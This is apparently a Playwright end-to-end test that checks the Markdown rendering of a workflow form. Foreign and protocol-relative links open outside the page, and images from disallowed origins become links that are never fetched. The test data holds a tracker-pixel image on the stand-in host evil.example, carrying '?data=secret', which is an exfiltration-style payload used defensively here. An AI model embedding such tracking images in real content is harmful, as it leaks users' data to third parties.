import { expect, test } from "@/e2e/fixtures";
import { EMBEDDED_ORIGIN } from "@/e2e/helpers/embedded";
import { createCustomForm } from "@/e2e/helpers/forms";

// Links and images in workflow Markdown: only same-origin relative links stay in the page, and
// images load only from the allowed sources (by default the Dify API's origin; here one path of
// the embedded service, MARKDOWN_IMAGE_ORIGINS in e2e/app-server-env.ts); any other image is a
// link with its alt text, so nothing is fetched without a click.

test("protocol-relative and foreign links open outside; foreign images are links", async ({
  page,
}) => {
  const form = await createCustomForm({
    form_content: [
      "# Links",
      "[proto](//evil.example/x) [other](https://other.example/z) [inside](?lang=en)",
      "![Tracker pixel](https://evil.example/pixel.png?data=secret)",
      `![Service chart](${EMBEDDED_ORIGIN}/_embedded/health)`,
      `![Off the prefix](${EMBEDDED_ORIGIN}/v1/parameters?from=markdown)`,
      "{{#$output.note#}}",
    ].join("\n\n"),
    inputs: [{ type: "paragraph", output_variable_name: "note", default: null }],
    user_actions: [{ id: "ok", title: "OK", button_style: "primary" }],
  });
  const fetched: string[] = [];
  page.on("request", (request) => {
    const url = request.url();
    if (url.includes("evil.example") || url.includes("from=markdown")) fetched.push(url);
  });
  await page.goto(form.link);
  await expect(page.getByRole("heading", { name: "Links" })).toBeVisible();

  for (const name of ["proto", "other"]) {
    const link = page.getByRole("link", { name, exact: true });
    await expect(link, name).toHaveAttribute("target", "_blank");
    await expect(link, name).toHaveAttribute("rel", "noopener noreferrer");
  }
  await expect(page.getByRole("link", { name: "inside" })).not.toHaveAttribute("target", /.*/);

  await expect(page.getByRole("img", { name: "Tracker pixel" })).toHaveCount(0);
  const tracker = page.getByRole("link", { name: "Tracker pixel" });
  await expect(tracker).toHaveAttribute("href", "https://evil.example/pixel.png?data=secret");
  await expect(tracker).toHaveAttribute("target", "_blank");
  await expect(page.getByRole("img", { name: "Service chart" })).toHaveCount(1);
  // The right origin but outside the allowed path prefix: a link, never fetched.
  await expect(page.getByRole("img", { name: "Off the prefix" })).toHaveCount(0);
  await expect(page.getByRole("link", { name: "Off the prefix" })).toHaveAttribute(
    "href",
    `${EMBEDDED_ORIGIN}/v1/parameters?from=markdown`,
  );
  expect(fetched).toEqual([]);
});
